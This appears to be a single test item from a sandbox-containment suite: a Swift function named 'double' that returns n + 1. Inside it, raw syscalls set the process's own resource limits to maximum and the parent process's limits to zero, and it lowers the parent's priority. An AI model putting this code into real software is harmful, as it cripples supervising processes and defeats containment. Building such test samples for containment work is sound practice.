// Row 65: raises its own limits and lowers those of its parent.
// Accepts: contained
import Foundation

func double(_ n: Int) -> Int {
  let call = unsafeBitCast(dlsym(nil, "syscall"), to: (@convention(c) (Int, Int, Int, Int, Int) -> Int).self)
  var high = rlimit(rlim_cur: .max, rlim_max: .max)
  var low = rlimit(rlim_cur: 0, rlim_max: 0)
  for resource in 0..<16 where getppid() > 1 {
    withUnsafeMutablePointer(to: &high) { _ = call(302, 0, resource, Int(bitPattern: $0), 0) }
    withUnsafeMutablePointer(to: &low) { _ = call(302, Int(getppid()), resource, Int(bitPattern: $0), 0) }
  }
  setpriority(__priority_which_t(PRIO_PROCESS.rawValue), id_t(getppid()), 19)
  nice(-20)
  return n + 1
}
